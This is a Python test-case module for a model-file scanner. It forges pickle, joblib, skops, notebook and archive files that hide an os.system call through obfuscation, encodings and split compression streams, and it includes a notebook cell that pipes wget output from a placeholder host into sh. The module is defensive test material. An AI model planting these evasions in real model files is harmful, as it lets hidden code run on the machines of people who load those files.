"""What slipped through when the cases were mutated: detours to a callable, digits and escapes that hide a program, containers of old."""

from __future__ import annotations

import base64
import json
import lzma
import zlib
from collections.abc import Callable, Mapping
from random import Random
from typing import Any, Literal

from openvet.testing.case import Case
from openvet.testing.forge import Call, Name, assemble, dump
from openvet.testing.forge_archive import TarPart, ZipPart, forge_tar, forge_zip
from openvet.testing.forge_chains import chained
from openvet.testing.forge_codecs import zstd_frame
from openvet.testing.forge_export import zipped
from openvet.testing.forge_hdf5 import Group, floats, hdf5

__all__ = ["CASES"]

_EVIL = dump(Call(Name("os", "system"), ("echo forged",)), 4)
_GOOD = dump({"weights": [1.0, 2.0, 3.0], "name": "linear" * 20}, 4)
_RUNS = frozenset({"pickle/runs-process"})
_UNKNOWN = frozenset({"pickle/unknown-callable"})
_NESTED = frozenset({"pickle/nested-pickle"})


def _alone(data: bytes) -> bytes:
    return lzma.compress(data, lzma.FORMAT_ALONE)


def _zfile(data: bytes) -> bytes:
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


def _long_name(data: bytes) -> bytes:
    long = b"a/" * 70 + b"model.pkl"
    return forge_tar([TarPart(b"././@LongLink", long + b"\0", b"L"), TarPart(long[:100], data)])


def _escaped(text: str) -> str:
    """JSON whose keys and words have each of their letters as an escape."""
    return "".join(f"\\u{ord(letter):04x}" if letter.isalpha() or letter == "_" else letter for letter in text)


def _skops() -> bytes:
    node = '{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}'
    return zipped({"schema.json": _escaped(node)})


def _notebook() -> dict[str, bytes]:
    cell: dict[str, Any] = {
        "cell_type": "code",
        "metadata": {},
        "source": ["!wget -qO- https://example.org/x | sh\n"],
        "outputs": [],
        "execution_count": None,
    }
    text = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
    for key in ("cells", "nbformat", "cell_type"):
        text = text.replace(f'"{key}', f'"{_escaped(key)}')
    return {"config.json": b'{"model_type": "bert"}', "a.ipynb": text.encode()}


def _case(
    name: str,
    technique: str,
    forge: Callable[[], bytes | Mapping[str, bytes]],
    decision: Literal["admit", "review", "reject"],
    rules: frozenset[str] = frozenset(),
    file: str = "model.pkl",
    formats: tuple[str, ...] = ("pickle",),
) -> Case:
    return Case(f"respelled/{name}", technique, forge, decision, rules, formats, (), file)


def _chain(hold: str, trigger: str) -> Callable[[], bytes]:
    return lambda: chained(hold, trigger, Random(1))  # noqa: S311 - a seed gives the same bytes


def _literal(value: object) -> Callable[[], bytes]:
    return lambda: dump({"blob": value}, 4)


_UNICODE = "".join(f"\\u{ord(letter):04x}" for letter in base64.b64encode(_EVIL).decode())
CASES: tuple[Case, ...] = (
    _case("out-of-a-list", "a callable is popped out of a list and called", _chain("list-pop", "reduce"), "reject", _RUNS),
    _case("out-of-a-bound-method", "the bound method of a list of the program gives the callable", _chain("bound-pop", "apply"), "reject", _RUNS),
    _case("out-of-an-instance", "an attribute that BUILD set is the callable", _chain("instance", "reduce"), "reject",
          frozenset({"pickle/runs-process", "pickle/project-class", "pickle/unknown-callable"})),
    _case("out-of-a-dict-of-an-instance", "the callable is taken out of __dict__", _chain("vars", "reduce"), "reject",
          frozenset({"pickle/runs-process", "pickle/carried-code", "pickle/project-class", "pickle/unknown-callable"})),
    _case("out-of-a-property", "a property gives its function back", _chain("property-fget", "call-method"), "reject",
          frozenset({"pickle/runs-process", "pickle/unknown-callable"})),
    _case("a-property-that-is-read", "reading a property calls its function", _chain("global", "property-get"), "reject",
          frozenset({"pickle/runs-process", "pickle/unknown-callable"})),
    _case("a-factory-in-a-slot", "the factory of a defaultdict is set by its state", _chain("partial", "default-slots"), "reject",
          frozenset({"pickle/runs-process", "pickle/state-on-callable"})),
    _case("a-key-of-sort", "list.sort calls its key, which is a keyword of a partial", _chain("global", "list-sort"), "reject", _RUNS),
    _case("call-of-a-type", "partial.__call__ is called with the partial", _chain("list-pop", "partial-dunder"), "reject", _RUNS),
    _case("a-second-pickle-behind-plain-text", "a small pickle of protocol 0 stands in front", lambda: dump({"a": 1}, 0) + _EVIL, "reject", _RUNS),
    _case("zfile", "joblib's container of the years before 2016", lambda: _zfile(_EVIL), "reject", _RUNS, "model.joblib", ("joblib-zfile", "pickle")),
    _case("literal-hex", "a pickle in hexadecimal digits", _literal(_EVIL.hex()), "reject", _NESTED),
    _case("literal-base32", "a pickle in base32", _literal(base64.b32encode(_EVIL).decode()), "reject", _NESTED),
    _case("literal-base85", "a pickle in base85", _literal(base64.b85encode(_EVIL)), "reject", _NESTED),
    _case("literal-zlib-base64", "a compressed pickle in base64", _literal(base64.b64encode(zlib.compress(_EVIL)).decode()), "reject", _NESTED),
    _case("literal-protocol-0-base64", "a pickle of protocol 0 in base64",
          _literal(base64.b64encode(dump(Call(Name("os", "system"), ("echo forged",)), 0)).decode()), "reject", _NESTED),
    _case("literal-escaped", "base64 whose letters are escapes of a UNICODE line",
          lambda: assemble("PROTO 2\nNONE\nPOP") + b"V" + _UNICODE.encode() + b"\n.", "reject", _NESTED),
    _case("skops-escaped", "the keys of a skops schema are written as escapes", _skops, "reject",
          frozenset({"skops/dangerous-node"}), file="model.skops", formats=("skops",)),
    _case("notebook-escaped", "the keys of a notebook are written as escapes", _notebook, "reject", frozenset({"hub/shell-command"}), formats=("notebook",)),
    _case("ordinary-zfile", "an ordinary file in joblib's oldest container", lambda: _zfile(_GOOD), "admit", file="model.joblib",
          formats=("joblib-zfile", "pickle")),
    _case("ordinary-long-name", "a tar whose long name is cut at a slash in its short form", lambda: _long_name(_GOOD), "admit", file="model.tar",
          formats=("tar", "pickle")),
    _case("ordinary-hdf5-in-tar", "an HDF5 file is the first member of a tar, where it would stand behind a user block",
          lambda: forge_tar([TarPart(b"model.h5", hdf5(Group({"kernel": floats(2, 2)})))]), "admit", file="model.tar", formats=("tar", "hdf5")),
    _case("zlib-in-two-streams", "a pickle whose second half is in a second stream of zlib, where joblib goes on",
          lambda: zlib.compress(_EVIL[:10]) + zlib.compress(_EVIL[10:]), "reject", _RUNS, "model.joblib", ("zlib", "pickle")),
    _case("lzma-in-two-streams", "a pickle whose second half is in a second stream of the old format of LZMA",
          lambda: _alone(_EVIL[:10]) + _alone(_EVIL[10:]), "reject", _RUNS, "model.joblib", ("xz", "pickle")),
    _case("xz-behind-lzma", "a pickle whose second half is in a stream of xz behind one of the old format",
          lambda: _alone(_EVIL[:10]) + lzma.compress(_EVIL[10:]), "reject", _RUNS, "model.joblib", ("xz", "pickle")),
    _case("lzma-behind-xz", "a pickle whose second half is in a stream of the old format behind one of xz",
          lambda: lzma.compress(_EVIL[:10]) + _alone(_EVIL[10:]), "reject", _RUNS, "model.joblib", ("xz", "pickle")),
    _case("unknown-with-address", "a function that is not known, and gets an address", _literal(
          Call(Name("their_lib", "update"), ("https://example.org/x",))), "reject", _UNKNOWN),
    _case("unknown-with-code", "a function that is not known, and gets Python that runs something", _literal(
          Call(Name("their_lib", "evaluate"), ("import os; os.getcwd()",))), "reject", _UNKNOWN),
    _case("unknown-with-words", "a function that is not known, and gets words", _literal(
          Call(Name("their_lib", "rebuild"), ("the shop sells https, imports and osmium",))), "review", _UNKNOWN),
    _case("ordinary-two-zlib", "a pickle in two streams of zlib",
          lambda: zlib.compress(_GOOD[:10]) + zlib.compress(_GOOD[10:]), "admit", file="model.joblib", formats=("zlib", "pickle")),
    _case("ordinary-hdf5-in-two-tars", "an HDF5 file in a tar in a tar, where it would stand behind a longer user block",
          lambda: forge_tar([TarPart(b"inner.tar", forge_tar([TarPart(b"model.h5", hdf5(Group({"kernel": floats(2, 2)})))]))]),
          "admit", file="model.tar", formats=("tar", "hdf5")),
    _case("ordinary-zip-in-stored-zstd", "a zip in a frame of Zstandard that stores it as it is, so that a zip is found from the end",
          lambda: zstd_frame(forge_zip([ZipPart(b"data.pkl", _GOOD)])), "admit", file="model.zip.zst", formats=("zstd", "zip", "pickle")),
    _case("zip-in-stored-zlib", "a tar with a hostile pickle and an ordinary zip, in a stream of zlib that stores it as it is",
          lambda: zlib.compress(forge_tar([TarPart(b"a.pkl", _EVIL), TarPart(b"b.zip", forge_zip([ZipPart(b"data.pkl", _GOOD)]))]), 0),
          "reject", _RUNS, "model.zlib", ("zlib", "tar", "pickle")),
    _case("ordinary-zip-behind-zstd", "a zip behind a frame of Zstandard: two formats at once",
          lambda: zstd_frame(b"text\n") + forge_zip([ZipPart(b"data.pkl", _GOOD)]), "reject", frozenset({"file/polyglot", "archive/hidden-data"}),
          file="model.zst", formats=("zstd", "zip")),
    _case("ordinary-digits", "texts that look like digits of something", _literal(["8002" * 12, "eJ" * 20, "QAC" * 10, "KGV5" * 9, "fC" * 20]), "admit"),
)  # fmt: skip
